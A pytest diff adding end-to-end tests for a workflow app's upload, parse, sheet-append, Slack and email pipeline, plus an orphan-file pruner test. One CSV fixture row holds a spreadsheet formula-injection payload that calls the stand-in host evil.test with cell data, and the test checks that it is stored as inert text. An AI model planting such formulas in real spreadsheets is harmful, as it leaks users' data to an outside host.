@@ -1,0 +1,202 @@
+"""Upload -> parse -> store -> notify with real processes: curl sends a multipart upload to the real
+web server (gunicorn), the real Celery worker runs every step against the local peers, on local
+disk and on S3 (moto). And a web process killed mid-upload leaves nothing once the pruner passed."""
+
+import csv
+import hashlib
+import io
+import json
+import socket
+import subprocess
+from datetime import timedelta
+
+import pytest
+from django.utils import timezone
+
+from integrations.services import credential_create
+from testing.network import (
+    FakeGoogle,
+    FakeSendGrid,
+    FakeSlack,
+    RecordingHTTPServer,
+    Reply,
+    SMTPServer,
+    service_account_key,
+    worker_network_guard_env,
+)
+from testing.web import start_web
+from testing.worker import wait_for, wait_for_run
+from workflows.models import FileState, Run, RunFile, TriggerType
+from workflows.ops import retention
+from workflows.services import workflow_create
+
+pytestmark = pytest.mark.slow
+SHEET = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"
+CHANNEL = "C0123456789"
+
+
+@pytest.fixture(scope="module")
+def peers():
+    servers = {"google": FakeGoogle().start(), "slack": FakeSlack().start(), "sendgrid": FakeSendGrid().start(),
+               "smtp": SMTPServer().start(), "http": RecordingHTTPServer().start()}  # fmt: skip
+    yield servers
+    for server in servers.values():
+        server.stop()
+
+
+@pytest.fixture(scope="module")
+def web(file_storage_env):
+    server = start_web(file_storage_env)
+    yield server
+    server.stop()
+
+
+@pytest.fixture
+def celery_worker_env(peers, file_storage_env):
+    return {
+        **worker_network_guard_env(),
+        **file_storage_env,
+        "POTAFLOW_ALLOW_PRIVATE_DESTINATIONS": "127.0.0.1",
+        "POTAFLOW_SLACK_API_URL": peers["slack"].api_url,
+        "POTAFLOW_SENDGRID_API_URL": peers["sendgrid"].url,
+        "POTAFLOW_GOOGLE_SHEETS_API_URL": peers["google"].sheets_url,
+        "POTAFLOW_GOOGLE_DRIVE_API_URL": peers["google"].drive_url,
+    }
+
+
+@pytest.fixture
+def stack(file_storage, celery_worker, web, peers, settings, fernet_keys):
+    settings.POTAFLOW_ALLOW_PRIVATE_DESTINATIONS = ["127.0.0.1"]
+    peers["google"].sheets[SHEET] = {"Rows": []}
+    for name in ("slack", "sendgrid", "http"):
+        peers[name].reset()
+    peers["slack"].files.clear()
+    peers["sendgrid"].sent.clear()
+    peers["smtp"].messages.clear()
+    return {**peers, "web": web, "storage": file_storage}
+
+
+def big_csv(target_bytes: int = 5 * 1024 * 1024) -> bytes:
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\n")
+    writer.writerow(["id", "name", "email", "amount", "note"])
+    writer.writerow([0, "Mallory", "m@evil.test", "1", '=HYPERLINK("http://evil.test/?"&A1,"open me")'])
+    i = 1
+    while out.tell() < target_bytes:
+        writer.writerow([i, f"Customer {i}", f"c{i}@example.com", f"{i * 1.5:.2f}", "lorem ipsum dolor " * 10])
+        i += 1
+    return out.getvalue().encode()
+
+
+def curl_upload(url: str, path, field: str = "upload") -> dict:
+    done = subprocess.run(
+        ["curl", "-sS", "--max-time", "60", "-F", f"{field}=@{path};type=text/csv", "-w", "\n%{http_code}", url],
+        capture_output=True, check=True, timeout=90,
+    )  # fmt: skip
+    body, _, status = done.stdout.decode().rpartition("\n")
+    return {"status": int(status), "body": body}
+
+
+def test_a_5_mb_csv_is_parsed_appended_stored_posted_and_mailed(stack, organization, tmp_path):
+    data = big_csv()
+    rows = data.count(b"\n") - 1
+    digest = hashlib.sha256(data).hexdigest()
+    (tmp_path / "orders.csv").write_bytes(data)
+    google = credential_create(organization=organization, name="g", kind="google_service_account",
+                               secret={"key": service_account_key(stack["google"].token_uri)})  # fmt: skip
+    slack = credential_create(organization=organization, name="s", kind="slack_bot_token",
+                              secret={"token": "xoxb-test-token"})  # fmt: skip
+    sendgrid = credential_create(organization=organization, name="sg", kind="sendgrid_api_key",
+                                 secret={"api_key": "SG.test-key", "from_email": "robot@acme.test"})  # fmt: skip
+    smtp = credential_create(organization=organization, name="m", kind="smtp", secret={
+        "host": "127.0.0.1", "port": stack["smtp"].port, "username": "mailer", "password": "s3cret",
+        "security": "none", "from_email": "robot@acme.test"})  # fmt: skip
+    upload = "{{ trigger.files.upload }}"
+    mail = {"to": "ops@acme.test", "subject": "{{ trigger.files.upload.name }}", "text": "attached",
+            "attachments": [upload]}  # fmt: skip
+    wf = workflow_create(organization=organization, name="Upload a CSV", trigger_type=TriggerType.WEBHOOK, steps=[
+        {"key": "parse", "action_type": "file.parse", "config": {"file": upload}},
+        {"key": "sheet", "action_type": "sheets.append_row", "credential": google.pk,
+         "config": {"spreadsheet": SHEET, "worksheet": "Rows", "rows": "{{ steps.parse.output.rows }}",
+                    "columns": "{{ steps.parse.output.columns }}", "value_input_option": "USER_ENTERED"}},
+        {"key": "store", "action_type": "file.store", "config": {"file": upload, "path": "csv/{{ run.id }}.csv"}},
+        {"key": "notify", "action_type": "slack.message", "credential": slack.pk,
+         "config": {"channel": CHANNEL, "text": "{{ steps.parse.output.row_count }} rows", "file": upload}},
+        {"key": "sendgrid", "action_type": "email.send", "credential": sendgrid.pk, "config": mail},
+        {"key": "smtp", "action_type": "email.send", "credential": smtp.pk, "config": mail},
+    ])  # fmt: skip
+
+    answer = curl_upload(f"{stack['web'].url}/hooks/{wf.webhook_token}", tmp_path / "orders.csv")
+    assert answer["status"] == 202, answer
+    run = wait_for_run(json.loads(answer["body"])["run_id"], {"succeeded", "failed"}, timeout=120)
+    assert run.status == "succeeded", list(run.step_runs.values("key", "error"))
+    assert run.payload["files"]["upload"]["sha256"] == digest
+
+    cells = stack["google"].cells(SHEET, "Rows")
+    assert len(cells) == rows and cells[0][4] == ("text", '=HYPERLINK("http://evil.test/?"&A1,"open me")')
+    stored = run.step_runs.get(key="store").output["location"]
+    key = f"org-{organization.pk}/stored/csv/{run.pk}.csv"
+    assert stored.endswith(key) and hashlib.sha256(stack["storage"].objects()[key]).hexdigest() == digest
+    (posted,) = stack["slack"].files
+    assert hashlib.sha256(posted["data"]).hexdigest() == digest and posted["comment"] == f"{rows} rows"
+    ((name, _, sent),) = stack["sendgrid"].attachments()
+    assert name == "orders.csv" and hashlib.sha256(sent).hexdigest() == digest
+    (message,) = stack["smtp"].messages
+    ((name, _, received),) = message.attachments()
+    assert name == "orders.csv" and hashlib.sha256(received).hexdigest() == digest
+
+
+def test_http_downloads_a_file_and_a_later_step_uploads_it_byte_identical(stack, organization):
+    blob = bytes(range(256)) * 4096  # 1 MiB, every byte value
+    http = stack["http"]
+    http.route("GET", "/exports/archive.bin", Reply(200, blob, {"Content-Type": "application/octet-stream"}))
+    http.route("POST", "/inbox", Reply(201, {"stored": True}))
+    wf = workflow_create(organization=organization, name="Relay", trigger_type=TriggerType.WEBHOOK, steps=[
+        {"key": "download", "action_type": "http.request",
+         "config": {"url": f"{http.url}/exports/archive.bin", "save_response_as_file": True}},
+        {"key": "upload", "action_type": "http.request",
+         "config": {"method": "POST", "url": f"{http.url}/inbox", "body_type": "multipart",
+                    "files": {"document": "{{ steps.download.output.file }}"}}},
+    ])  # fmt: skip
+    hook = stack["web"].url + f"/hooks/{wf.webhook_token}"
+    done = subprocess.run(["curl", "-sS", "-X", "POST", "-H", "Content-Type: application/json", "-d", "{}", hook],
+                          capture_output=True, check=True)  # fmt: skip
+    run = wait_for_run(json.loads(done.stdout)["run_id"], {"succeeded", "failed"}, timeout=60)
+    assert run.status == "succeeded", list(run.step_runs.values("key", "error"))
+    ref = run.step_runs.get(key="download").output["file"]
+    sent = [r for r in http.requests if r.path == "/inbox"][0].body
+    start = sent.index(b"\r\n\r\n", sent.index(b'name="document"')) + 4
+    assert sent[start : start + len(blob)] == blob and sent[start + len(blob) :].startswith(b"\r\n--")
+    assert ref["sha256"] == hashlib.sha256(blob).hexdigest()
+    assert RunFile.objects.get(pk=ref["id"]).run_id == run.pk  # a file of the run: deleted with it
+
+
+def test_a_web_process_killed_mid_upload_leaves_no_orphan_after_the_pruner(file_storage, file_storage_env,
+                                                                          organization, transactional_db):  # fmt: skip
+    wf = workflow_create(organization=organization, name="Killed", trigger_type=TriggerType.WEBHOOK)
+    server = start_web(file_storage_env)
+    boundary = "b0undary"
+    head = (f'--{boundary}\r\nContent-Disposition: form-data; name="upload"; filename="big.bin"\r\n'
+            "Content-Type: application/octet-stream\r\n\r\n").encode()  # fmt: skip
+    sock = socket.create_connection(("127.0.0.1", server.port), timeout=10)
+    try:
+        sock.sendall(
+            f"POST /hooks/{wf.webhook_token} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+            f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
+            f"Content-Length: {8 * 1024 * 1024}\r\n\r\n".encode()
+            + head
+            + b"x" * (1024 * 1024)
+        )  # fmt: skip
+        row = wait_for(lambda: RunFile.objects.filter(state=FileState.UPLOADING).first(), timeout=30,
+                       message="the upload's row")  # fmt: skip
+        if file_storage.kind == "local":
+            wait_for(lambda: file_storage.objects(), timeout=30, message="the first bytes on disk")
+        server.kill()
+    finally:
+        sock.close()
+        server.stop()
+    assert not Run.objects.exists()
+    assert RunFile.objects.filter(pk=row.pk, state=FileState.UPLOADING).exists()
+    retention.prune(now=timezone.now() + timedelta(hours=2))  # the pruner's next pass, past the grace
+    assert not RunFile.objects.exists()
+    assert file_storage.objects() == {} and file_storage.open_multipart_uploads() == []
